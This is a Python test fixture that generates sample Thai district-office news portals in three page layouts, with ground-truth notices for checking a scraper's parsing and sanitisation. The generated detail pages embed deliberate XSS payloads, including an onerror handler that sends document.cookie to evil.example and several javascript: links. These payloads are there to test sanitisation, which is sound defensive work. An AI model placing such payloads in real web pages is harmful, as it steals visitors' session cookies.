"""Sample district-office portals, shaped like webportal.bangkok.go.th/<district>.

All 50 districts, each with news list pages (paginated) and notice pages, in three site layouts
(real portals differ):

- "table":  `table.news-list td.title a` rows, numbered `ul.pagination` with `a.next` (?page=N);
- "cards":  an older `div.item-card a.title` list with an `a[rel=next]` link (?page=N); 1001 is still
            served as TIS-620 (declared in the header), 1013 declares TIS-620 only in a <meta> tag;
- "wp":     a WordPress/Joomla-like portal: `ul.list-news li h3 a` with relative hrefs, a pinned
            (sticky) notice repeated at the top of every list page, `?start=N` offsets and a bare
            "หน้าถัดไป" text link; notice pages with `div.entry-content`, `span.date` written
            "โพสต์เมื่อ ๒๕ พ.ย. ๖๙" and `div.attachments` inside the content.

Every layout carries attachments on some notices (PDF announcements with Thai file names, a
.docx application form, .jpg posters and maps; relative hrefs, some raw Thai with spaces, some
already percent-encoded, one icon link duplicating a text link, and a `javascript:` link that
must be dropped). Every district has at least one road-works ("construction") notice and one
"other" notice (procurement, tax, vacancies, office closures) besides its service notices, and
one wp district lists a notice postponed without a date, which the parser must quarantine.
Content is generated from today's date, deterministically, so the demo always shows current
items and a second pass over unchanged content gets 304s.
`expected_notices()` is the ground truth tests compare the pipeline's output against.
"""
from __future__ import annotations

import html
import random
from dataclasses import dataclass
from datetime import date, time, timedelta
from urllib.parse import quote

from hub.gazetteer import Gazetteer
from sample_sites.server import Page
from sample_sites.thai_calendar import MONTHS_ABBR, THAI_DIGITS, be_year, format_thai_date, thai_time, today_bangkok

PAGE_SIZE = 5
# Portals still on the old card layout; 1001 (Phra Nakhon) is also still served as TIS-620,
# 1013 declares its charset only in a <meta> tag.
CARD_LAYOUT = {"1001", "1004", "1007", "1013", "1019", "1022", "1028", "1031", "1037", "1043", "1046", "1049"}
TIS620_PORTALS = {"1001": "header", "1013": "meta"}
# A third of the remaining portals (13 of 50, deterministic by code) run the WordPress-like theme.
_NON_CARD = [str(code) for code in range(1001, 1051) if str(code) not in CARD_LAYOUT]
WP_LAYOUT = set(_NON_CARD[1::3])
# The wp district whose list also carries a notice that has no event date (quarantined, not expected).
POSTPONED_DISTRICT = min(WP_LAYOUT)


def layout_of(code: str) -> str:
    return "cards" if code in CARD_LAYOUT else "wp" if code in WP_LAYOUT else "table"


@dataclass(frozen=True)
class Template:
    kind: str
    title: str
    body: str
    start: time | None
    end: time | None


# The development list for the classifier: several wordings per kind, as district offices write them.
TEMPLATES: dict[str, list[Template]] = {
    "pet_vaccination": [
        Template("pet_vaccination", "ขอเชิญนำสุนัขและแมวมารับบริการฉีดวัคซีนป้องกันโรคพิษสุนัขบ้า ฟรี",
                 "สำนักงานเขต{district} ร่วมกับสำนักงานสัตวแพทย์สาธารณสุข จัดหน่วยบริการฉีดวัคซีนป้องกันโรคพิษสุนัขบ้า"
                 "ให้แก่สุนัขและแมวโดยไม่เสียค่าใช้จ่าย ณ {place}", time(9, 0), time(12, 0)),
        Template("pet_vaccination", "ออกหน่วยฉีดวัคซีนสุนัขและแมวเคลื่อนที่ในชุมชน",
                 "เจ้าหน้าที่สำนักงานเขต{district} จะออกหน่วยฉีดวัคซีนป้องกันโรคพิษสุนัขบ้าให้สัตว์เลี้ยงตามบ้านเรือน "
                 "บริเวณ{place} เจ้าของสัตว์โปรดนำสมุดประจำตัวสัตว์มาด้วย", time(13, 0), time(16, 0)),
    ],
    "sterilisation": [
        Template("sterilisation", "โครงการผ่าตัดทำหมันสุนัขและแมว ฟรี",
                 "ขอเชิญประชาชนนำสุนัขและแมวมารับบริการผ่าตัดทำหมัน ณ {place} "
                 "กรุณางดอาหารและน้ำสัตว์เลี้ยงก่อนผ่าตัด 12 ชั่วโมง จำกัด 50 ตัว", time(8, 30), time(15, 0)),
        Template("sterilisation", "หน่วยสัตวแพทย์เคลื่อนที่ บริการทำหมันสุนัขและแมว ลงทะเบียนล่วงหน้า",
                 "สำนักงานเขต{district} เปิดให้ลงทะเบียนนำสุนัขและแมวเข้ารับการทำหมัน ณ {place} "
                 "สัตว์ที่ทำหมันแล้วจะได้รับการฉีดวัคซีนพิษสุนัขบ้าด้วย", time(9, 0), time(14, 0)),
    ],
    "mosquito_fogging": [
        Template("mosquito_fogging", "แจ้งกำหนดการพ่นหมอกควันกำจัดยุงลาย ป้องกันโรคไข้เลือดออก",
                 "ฝ่ายสิ่งแวดล้อมและสุขาภิบาล สำนักงานเขต{district} จะออกพ่นหมอกควันกำจัดยุงลายในพื้นที่{place} "
                 "ขอให้ประชาชนปิดภาชนะใส่อาหารและนำสัตว์เลี้ยงออกจากบริเวณ", time(16, 0), time(18, 0)),
        Template("mosquito_fogging", "เลื่อนการพ่นหมอกควันกำจัดยุง เนื่องจากฝนตก",
                 "เนื่องจากสภาพอากาศไม่เอื้ออำนวย ฝ่ายสิ่งแวดล้อมและสุขาภิบาล สำนักงานเขต{district} "
                 "ขอเลื่อนการพ่นหมอกควันในพื้นที่{place} ไปตามกำหนดการใหม่ด้านล่าง", time(15, 30), time(17, 30)),
    ],
    "bulky_waste": [
        Template("bulky_waste", "บริการจัดเก็บขยะชิ้นใหญ่ ฟรี ตามวันที่กำหนด",
                 "สำนักงานเขต{district} ให้บริการจัดเก็บขยะชิ้นใหญ่ เช่น โซฟา ที่นอน ตู้ เฟอร์นิเจอร์เก่า "
                 "โปรดนำมาวางไว้หน้าบ้านหรือแจ้งล่วงหน้าที่ฝ่ายรักษาความสะอาด โทร 1555 ในพื้นที่{place}", None, None),
        Template("bulky_waste", "แจ้งวันเก็บขนเฟอร์นิเจอร์และที่นอนเก่าประจำเดือน",
                 "ฝ่ายรักษาความสะอาด สำนักงานเขต{district} จะจัดรถเก็บขนโต๊ะ เก้าอี้ ตู้ และที่นอนที่ไม่ใช้แล้ว "
                 "โปรดนำมาวางไว้ที่จุดรวบรวม {place}", None, None),
    ],
    "mobile_registration": [
        Template("mobile_registration", "หน่วยบริการทำบัตรประจำตัวประชาชนเคลื่อนที่",
                 "ฝ่ายทะเบียน สำนักงานเขต{district} ออกหน่วยบริการทำบัตรประจำตัวประชาชนเคลื่อนที่ "
                 "และรับแจ้งย้ายที่อยู่ ณ {place} ผู้ใช้บริการโปรดนำบัตรเดิมมาด้วย", time(9, 0), time(15, 0)),
        Template("mobile_registration", "ฝ่ายทะเบียนออกให้บริการงานทะเบียนราษฎรนอกสถานที่",
                 "สำนักงานเขต{district} ให้บริการทำบัตรประชาชนสำหรับเด็กอายุ 7 ปีขึ้นไป ผู้สูงอายุและผู้พิการ "
                 "และคัดสำเนาทะเบียนบ้าน ณ {place}", time(8, 30), time(15, 30)),
    ],
    "job_training": [
        Template("job_training", "รับสมัครผู้สนใจเข้ารับการฝึกอบรมอาชีพ หลักสูตรระยะสั้น",
                 "ศูนย์ฝึกอาชีพ สำนักงานเขต{district} เปิดรับสมัครฝึกอบรมอาชีพ หลักสูตรการทำขนมไทยและนวดแผนไทย "
                 "ไม่มีค่าใช้จ่าย สมัครได้ที่ {place} รับจำนวนจำกัด", time(9, 0), time(16, 0)),
        Template("job_training", "เปิดสอนวิชาช่างเสริมสวยและตัดผม ไม่มีค่าใช้จ่าย",
                 "ฝ่ายพัฒนาชุมชนและสวัสดิการสังคม สำนักงานเขต{district} เปิดอบรมวิชาชีพช่างเสริมสวย "
                 "ผู้ผ่านการอบรมได้รับวุฒิบัตร เรียนที่ {place}", time(13, 0), time(16, 0)),
    ],
    "health_service": [
        Template("health_service", "บริการตรวจสุขภาพและคัดกรองโรคเบาหวาน ความดันโลหิตสูง",
                 "ศูนย์บริการสาธารณสุขในพื้นที่เขต{district} ให้บริการตรวจสุขภาพ วัดความดัน เจาะน้ำตาลในเลือด "
                 "และฉีดวัคซีนไข้หวัดใหญ่สำหรับผู้สูงอายุ ณ {place}", time(8, 0), time(12, 0)),
        Template("health_service", "ฉีดวัคซีนป้องกันโรคไข้หวัดใหญ่สำหรับผู้สูงอายุและกลุ่มเสี่ยง",
                 "สำนักงานเขต{district} ร่วมกับศูนย์บริการสาธารณสุข ให้บริการฉีดวัคซีนแก่ผู้สูงอายุ หญิงตั้งครรภ์ "
                 "และผู้ป่วยโรคเรื้อรัง ณ {place} โปรดนำบัตรประชาชนมาด้วย", time(9, 0), time(12, 0)),
    ],
    "district_event": [
        Template("district_event", "ขอเชิญร่วมงานเทศกาลประจำปีของชุมชน",
                 "สำนักงานเขต{district} ขอเชิญประชาชนร่วมงานเทศกาล ชมการแสดงทางวัฒนธรรม ตลาดสินค้าชุมชน "
                 "และกิจกรรมสำหรับครอบครัว ณ {place}", time(17, 0), time(21, 0)),
        Template("district_event", "ขอเชิญร่วมงานประเพณีลอยกระทงและประกวดกระทง",
                 "สำนักงานเขต{district} ขอเชิญประชาชนร่วมสืบสานประเพณีลอยกระทง ชมการประกวดกระทงและการแสดงดนตรีไทย "
                 "ณ {place}", time(18, 0), time(22, 0)),
    ],
    "construction": [
        Template("construction", "ประกาศปิดการจราจรชั่วคราวเพื่อซ่อมแซมผิวจราจร",
                 "สำนักงานเขต{district} จะดำเนินการซ่อมแซมผิวจราจรและท่อระบายน้ำ บริเวณ{place} "
                 "จึงขอปิดการจราจรชั่วคราว ขออภัยในความไม่สะดวก", time(22, 0), time(5, 0)),
        Template("construction", "แจ้งงานก่อสร้างวางท่อระบายน้ำ ขอใช้ช่องจราจรชั่วคราว",
                 "สำนักการระบายน้ำร่วมกับสำนักงานเขต{district} ดำเนินการก่อสร้างวางท่อระบายน้ำ บริเวณ{place} "
                 "ผู้ขับขี่โปรดใช้เส้นทางเลี่ยง", time(9, 0), time(16, 0)),
        Template("construction", "ปิดถนนชั่วคราวระหว่างการจัดงานประเพณีของชุมชน",
                 "เพื่อความปลอดภัยของผู้ร่วมงาน สำนักงานเขต{district} ร่วมกับสถานีตำรวจนครบาลในพื้นที่ "
                 "ขอปิดถนนบริเวณ{place} ผู้ขับขี่โปรดใช้เส้นทางเลี่ยง", time(15, 0), time(23, 0)),
    ],
    "other": [
        Template("other", "ประกาศประกวดราคาจ้างปรับปรุงอาคารสำนักงาน ด้วยวิธีประกวดราคาอิเล็กทรอนิกส์ (e-bidding)",
                 "สำนักงานเขต{district} มีความประสงค์จะประกวดราคาจ้างปรับปรุงอาคาร ผู้สนใจดาวน์โหลดเอกสาร"
                 "ประกวดราคาทางระบบจัดซื้อจัดจ้างภาครัฐ (e-GP) และยื่นข้อเสนอ", None, None),
        Template("other", "ขอเชิญชำระภาษีที่ดินและสิ่งปลูกสร้าง ประจำปี",
                 "ฝ่ายรายได้ สำนักงานเขต{district} ขอแจ้งให้เจ้าของที่ดินและสิ่งปลูกสร้างชำระภาษีภายในกำหนด "
                 "เพื่อไม่ต้องเสียเงินเพิ่ม ชำระได้ที่ {place}", time(8, 30), time(16, 30)),
        Template("other", "รับสมัครบุคคลเพื่อเลือกสรรเป็นลูกจ้างชั่วคราว ตำแหน่งพนักงานทั่วไป",
                 "สำนักงานเขต{district} รับสมัครลูกจ้างชั่วคราว จำนวน 2 อัตรา ผู้สนใจยื่นใบสมัครด้วยตนเอง "
                 "ณ ฝ่ายปกครอง", time(8, 30), time(16, 30)),
        Template("other", "ประกาศวันหยุดทำการของสำนักงานเขต",
                 "สำนักงานเขต{district} ปิดทำการเนื่องในวันหยุดราชการ และจะเปิดให้บริการตามปกติในวันทำการถัดไป",
                 None, None),
    ],
}
SERVICE_KINDS = ("pet_vaccination", "sterilisation", "mosquito_fogging", "bulky_waste", "mobile_registration",
                 "job_training", "health_service", "district_event")
PLACES = ["ลานอเนกประสงค์ สำนักงานเขต{district}", "ศาลาประชาคมชุมชนวัดใหม่", "ศูนย์บริการสาธารณสุข 12",
          "ซอยประชาร่วมใจ 3", "ตลาดนัดชุมชนริมคลอง", "โรงเรียนประถมในพื้นที่เขต{district}"]
# Where each layout puts uploaded files, relative to the notice page /<slug>/news/<id>.
_FILE_DIRS = {"table": "/{slug}/uploads/news/{id}/", "cards": "../files/{id}/", "wp": "../wp-content/uploads/{y}/{m}/"}


@dataclass(frozen=True)
class Attachment:
    title: str
    href: str          # as written in the page (relative, raw Thai or already percent-encoded)
    url_path: str      # the absolute path a browser would request (percent-encoded UTF-8)
    type: str


@dataclass(frozen=True)
class Notice:
    district_code: str
    notice_id: str
    kind: str
    title: str
    body: str
    event_date: date | None        # None: postponed without a date (the parser quarantines it)
    start: time | None
    end: time | None
    posted: date
    date_style: int
    attachments: tuple[Attachment, ...] = ()
    javascript_link: bool = False  # a `javascript:` download link the parser must drop


def _kinds_for(code: str, count: int) -> list[str]:
    """Service kinds rotating by district, with one construction and one other notice in each."""
    services = [SERVICE_KINDS[(int(code) + i) % len(SERVICE_KINDS)] for i in range(count - 2)]
    services.insert(1, "construction")
    services.insert(4, "other")
    return services


def _attachments(code: str, slug: str, notice_id: str, kind: str, i: int, posted: date,
                 district_name: str) -> tuple[Attachment, ...]:
    layout = layout_of(code)
    files: list[tuple[str, str]] = []          # (link text, file name)
    if kind == "construction":
        files = [("ประกาศปิดการจราจร (PDF)", f"ประกาศ เขต{district_name} ปิดการจราจร.pdf"),
                 ("แผนที่เส้นทางเลี่ยง", "แผนที่เส้นทางเลี่ยง.JPG")]
    elif kind == "other":
        files = [("เอกสารประกาศ", f"ประกาศสำนักงานเขต{district_name}.pdf")]
    elif kind == "job_training":
        files = [("ใบสมัครเข้ารับการฝึกอบรม", "ใบสมัครฝึกอบรมอาชีพ.docx")]
    elif kind == "district_event":
        files = [("โปสเตอร์งาน", "poster-งานประจำปี.jpg")]
    elif i % 3 == 0:
        files = [("ประกาศฉบับเต็ม", f"ประกาศ {notice_id}.pdf")]
    base = _FILE_DIRS[layout].format(slug=slug, id=notice_id, y=posted.year, m=f"{posted.month:02d}")
    base_path = {"table": base, "cards": f"/{slug}/files/{notice_id}/",
                 "wp": f"/{slug}/wp-content/uploads/{posted.year}/{posted.month:02d}/"}[layout]
    out = []
    for n, (text, name) in enumerate(files):
        # WordPress writes its uploads percent-encoded; the others write raw Thai (with spaces).
        written = quote(name) if layout == "wp" and n == 0 else name
        ext = name.rsplit(".", 1)[1].lower()
        out.append(Attachment(text, base + written, base_path + quote(name), "jpg" if ext == "jpeg" else ext))
    return tuple(out)


def notices_for(code: str, district_name: str, today: date, slug: str | None = None, scale: int = 1) -> list[Notice]:
    """A district's notices; `scale` multiplies their number (the benchmark's city-scale load)."""
    slug = slug if slug is not None else Gazetteer.load().district(code).portal_slug
    rng = random.Random(f"{code}-{today.isoformat()}")
    count = (8 + int(code) % 4) * scale  # 8..11 notices: two or three list pages
    out = []
    for i, kind in enumerate(_kinds_for(code, count)):
        variants = TEMPLATES[kind]
        template = variants[(int(code) // 3 + i) % len(variants)]
        event_date = today + timedelta(days=rng.randint(-2, 21))
        posted = event_date - timedelta(days=rng.randint(3, 10))
        place = rng.choice(PLACES).format(district=district_name)
        body = template.body.format(district=district_name, place=place)
        notice_id = f"{code}{i + 1:03d}"
        out.append(Notice(code, notice_id, template.kind, template.title, body, event_date,
                          template.start, template.end, posted, date_style=int(code) + i,
                          attachments=_attachments(code, slug, notice_id, kind, i, posted, district_name),
                          javascript_link=(i == 2)))
    if code == POSTPONED_DISTRICT:
        posted = today - timedelta(days=1)
        out.append(Notice(code, f"{code}{count + 1:03d}", "district_event", "เลื่อนการจัดงานเทศกาลประจำปีของชุมชน",
                          f"สำนักงานเขต{district_name} ขอแจ้งเลื่อนการจัดงานเทศกาลประจำปีออกไปโดยยังไม่มีกำหนด "
                          "จะแจ้งให้ทราบอีกครั้ง", None, None, None, posted, date_style=0))
    return sorted(out, key=lambda n: (n.posted, n.notice_id), reverse=True)


def when_text(n: Notice) -> str:
    if n.event_date is None:
        return "จะแจ้งให้ทราบภายหลัง"
    text = format_thai_date(n.event_date, n.date_style)
    if n.start and n.end:
        return f"{text} เวลา {n.start:%H.%M} - {thai_time(n.end)}"
    if n.start:
        return f"{text} เวลา {thai_time(n.start)}"
    return text


def expected_notices(gazetteer: Gazetteer, today: date | None = None) -> list[Notice]:
    """Every notice the parser must load (the postponed one without a date is quarantined instead)."""
    today = today or today_bangkok()
    return [n for d in gazetteer.districts for n in notices_for(d.code, d.name_th, today, d.portal_slug)
            if n.event_date is not None]


def expected_quarantined(gazetteer: Gazetteer, today: date | None = None) -> list[Notice]:
    """Notices listed on a portal that have no event date: quarantined with a reason, never loaded."""
    today = today or today_bangkok()
    return [n for d in gazetteer.districts for n in notices_for(d.code, d.name_th, today, d.portal_slug)
            if n.event_date is None]


class DistrictPortals:
    """Paths: /<slug>/news (?page=N for table/cards, ?start=N for wp) and /<slug>/news/<notice_id>."""
    name = "district_portals"

    def __init__(self, gazetteer: Gazetteer, today: date | None = None, scale: int = 1):
        self.gazetteer = gazetteer
        self.today = today
        self.scale = scale
        self.by_slug = {d.portal_slug: d for d in gazetteer.districts}

    def _notices(self, district) -> list[Notice]:
        return notices_for(district.code, district.name_th, self.today or today_bangkok(), district.portal_slug,
                           self.scale)

    def expected_notices(self) -> list[Notice]:
        return expected_notices(self.gazetteer, self.today)

    def expected_quarantined(self) -> list[Notice]:
        return expected_quarantined(self.gazetteer, self.today)

    def page(self, path: str, query: dict[str, list[str]]) -> Page | None:
        parts = [p for p in path.split("/") if p]
        if not parts or parts[0] not in self.by_slug:
            return None
        district = self.by_slug[parts[0]]
        notices = self._notices(district)
        layout = layout_of(district.code)
        if parts[1:] == ["news"]:
            pages = max(1, -(-len(notices) // PAGE_SIZE))
            try:
                if layout == "wp":
                    start = int((query.get("start") or ["0"])[0])
                    if start % PAGE_SIZE:
                        return None
                    page_no = start // PAGE_SIZE + 1
                else:
                    page_no = int((query.get("page") or ["1"])[0])
            except ValueError:
                return None
            if not 1 <= page_no <= pages:
                return None
            chunk = notices[(page_no - 1) * PAGE_SIZE: page_no * PAGE_SIZE]
            if layout == "wp":
                body = _wp_list(district, chunk, page_no, pages, pinned=notices[0])
            else:
                body = (_card_list if layout == "cards" else _table_list)(district, chunk, page_no, pages)
        elif len(parts) == 3 and parts[1] == "news":
            notice = next((n for n in notices if n.notice_id == parts[2]), None)
            if notice is None:
                return None
            body = {"table": _table_detail, "cards": _card_detail, "wp": _wp_detail}[layout](district, notice)
        else:
            return None
        return _encode(district.code, body)


def _encode(code: str, body: str) -> Page:
    mode = TIS620_PORTALS.get(code)
    if mode is None:
        return Page(body.replace("{charset}", "utf-8").encode("utf-8"), "text/html; charset=utf-8")
    data = body.replace("{charset}", "tis-620").encode("cp874")
    return Page(data, "text/html; charset=tis-620" if mode == "header" else "text/html")


def _head(title: str) -> str:
    return (f"<!DOCTYPE html><html lang='th'><head><meta charset='{{charset}}'><title>{html.escape(title)}</title>"
            "<script src='/static/analytics.js'></script></head><body>")


def _file_links(n: Notice, wrap: str) -> str:
    """The notice's attachment links; `wrap` formats one link (it gets href and text)."""
    links = [wrap.format(href=html.escape(a.href, quote=True), text=html.escape(a.title)) for a in n.attachments]
    if n.javascript_link:
        # A download button wired to JavaScript: no usable URL, and a payload that must never be published.
        links.append(wrap.format(href="javascript:void(window.open(&#39;/files/x.pdf&#39;))", text="ดาวน์โหลด"))
    return "".join(links)


def _table_list(district, chunk: list[Notice], page_no: int, pages: int) -> str:
    rows = "".join(
        f"<tr><td class='date'>{format_thai_date(n.posted, 0)}</td>"
        f"<td class='title'><a href='/{district.portal_slug}/news/{n.notice_id}'>{html.escape(n.title)}</a></td></tr>"
        for n in chunk)
    pager = "".join(f"<li class='{'active' if p == page_no else ''}'><a href='/{district.portal_slug}/news?page={p}'>{p}</a></li>"
                    for p in range(1, pages + 1))
    nxt = f"<li><a class='next' href='/{district.portal_slug}/news?page={page_no + 1}'>ถัดไป</a></li>" if page_no < pages else ""
    return (_head(f"ข่าวประชาสัมพันธ์ สำนักงานเขต{district.name_th}") +
            f"<div id='main'><h2>ข่าวประชาสัมพันธ์ สำนักงานเขต{district.name_th}</h2>"
            f"<table class='news-list'><thead><tr><th>วันที่</th><th>เรื่อง</th></tr></thead><tbody>{rows}</tbody></table>"
            f"<ul class='pagination'>{pager}{nxt}</ul></div></body></html>")


def _table_detail(district, n: Notice) -> str:
    files = _file_links(n, "<li><a href='{href}' target='_blank'>{text}</a></li>")
    return (_head(n.title) +
            f"<div class='news-detail'><h1>{html.escape(n.title)}</h1>"
            f"<div class='posted'>โพสต์เมื่อ {format_thai_date(n.posted, 0)}</div>"
            f"<div class='content'><p>{html.escape(n.body)}</p><p><strong>กำหนดการ:</strong> {when_text(n)}</p>"
            f"<p>สอบถามเพิ่มเติม โทร {district.office_phone}</p>"
            # Scraped HTML is untrusted: this payload must never reach a published file.
            f"<p><a href=\"javascript:alert('x')\" onclick=\"steal()\">รายละเอียด</a></p>"
            f"<script>document.write('injected')</script></div>"
            + (f"<div class='attach'><b>ไฟล์แนบ</b><ul class='files'>{files}</ul></div>" if files else "")
            + "</div></body></html>")


def _card_list(district, chunk: list[Notice], page_no: int, pages: int) -> str:
    cards = "".join(
        f"<div class='item-card'><a class='title' href='/{district.portal_slug}/news/{n.notice_id}'>{html.escape(n.title)}</a>"
        f"<span class='meta'>ประกาศ {format_thai_date(n.posted, 1)}</span></div>" for n in chunk)
    nxt = f"<a rel='next' href='/{district.portal_slug}/news?page={page_no + 1}'>หน้าถัดไป &raquo;</a>" if page_no < pages else ""
    return (_head(f"สำนักงานเขต{district.name_th}") +
            f"<section class='news'><h3>ข่าวสารเขต{district.name_th}</h3>{cards}<nav class='pager'>{nxt}</nav></section>"
            "</body></html>")


def _card_detail(district, n: Notice) -> str:
    files = _file_links(n, "<a class='file' href='{href}'>{text}</a> ")
    return (_head(n.title) +
            f"<article><header><h2>{html.escape(n.title)}</h2><time>{format_thai_date(n.posted, 1)}</time></header>"
            f"<section class='body'>{html.escape(n.body)}<br>วันเวลา: {when_text(n)}"
            f"<img src='x' onerror='alert(1)'></section>"
            + (f"<section class='downloads'><h4>ดาวน์โหลด</h4>{files}</section>" if files else "")
            + "</article></body></html>")


def _wp_posted(d: date) -> str:
    return f"โพสต์เมื่อ {d.day} {MONTHS_ABBR[d.month - 1]} {be_year(d) % 100:02d}".translate(THAI_DIGITS)


def _wp_list(district, chunk: list[Notice], page_no: int, pages: int, pinned: Notice) -> str:
    def item(n: Notice, cls: str = "") -> str:
        # Relative hrefs, resolved against /<slug>/news (the theme writes them that way).
        return (f"<li class='{cls}'><h3><a href='news/{n.notice_id}'>{html.escape(n.title)}</a></h3>"
                f"<span class='date'>{_wp_posted(n.posted)}</span></li>")
    # The newest notice is pinned: it appears on top of every list page as well as in its own place.
    items = item(pinned, "sticky") + "".join(item(n) for n in chunk)
    links = []
    if page_no > 1:
        links.append(f"<a href='?start={(page_no - 2) * PAGE_SIZE}'>หน้าก่อน</a>")
    links += [f"<a href='?start={(p - 1) * PAGE_SIZE}'>{p}</a>" if p != page_no else f"<span>{p}</span>"
              for p in range(1, pages + 1)]
    if page_no < pages:
        links.append(f"<a href='?start={page_no * PAGE_SIZE}'>หน้าถัดไป</a>")
    return (_head(f"ข่าวประชาสัมพันธ์ – สำนักงานเขต{district.name_th}") +
            f"<div id='content'><h1 class='page-title'>ข่าวประชาสัมพันธ์</h1><ul class='list-news'>{items}</ul>"
            f"<p class='nav-links'>{' '.join(links)}</p></div>"
            "<div id='sidebar'><ul class='list-links'><li><a href='/'>หน้าแรก</a></li></ul></div></body></html>")


def _wp_detail(district, n: Notice) -> str:
    links = []
    for k, a in enumerate(n.attachments):
        href = html.escape(a.href, quote=True)
        if k == 0:   # the theme puts an icon link before the text link to the same file
            links.append(f"<a href='{href}'><img src='/wp-content/themes/bma/pdf.png' alt=''></a>")
        links.append(f"<a href='{href}'>{html.escape(a.title)}</a> <span class='size'>(245 KB)</span><br>")
    if n.javascript_link:
        links.append("<a href=\"javascript:downloadFile('ประกาศ.pdf')\" onclick=\"track()\">ดาวน์โหลด</a>")
    files = "".join(links)
    return (_head(n.title) +
            f"<article class='post'><h1 class='entry-title'>{html.escape(n.title)}</h1>"
            f"<div class='entry-meta'><span class='date'>{_wp_posted(n.posted)}</span> "
            f"<span class='author'>โดย ฝ่ายปกครอง</span></div>"
            f"<div class='entry-content'><p>{html.escape(n.body)}</p><p>วันเวลา: {when_text(n)}</p>"
            f"<p>ติดต่อสอบถาม โทร. {district.office_phone}</p>"
            f"<p><img src=x onerror=\"fetch('//evil.example/'+document.cookie)\"></p>"
            f"<iframe src=\"javascript:alert(1)\"></iframe>"
            + (f"<div class='attachments'><h4>เอกสารแนบ</h4>{files}</div>" if files else "")
            + "<div class='sharedaddy'>แชร์: Facebook Line</div></div></article></body></html>")
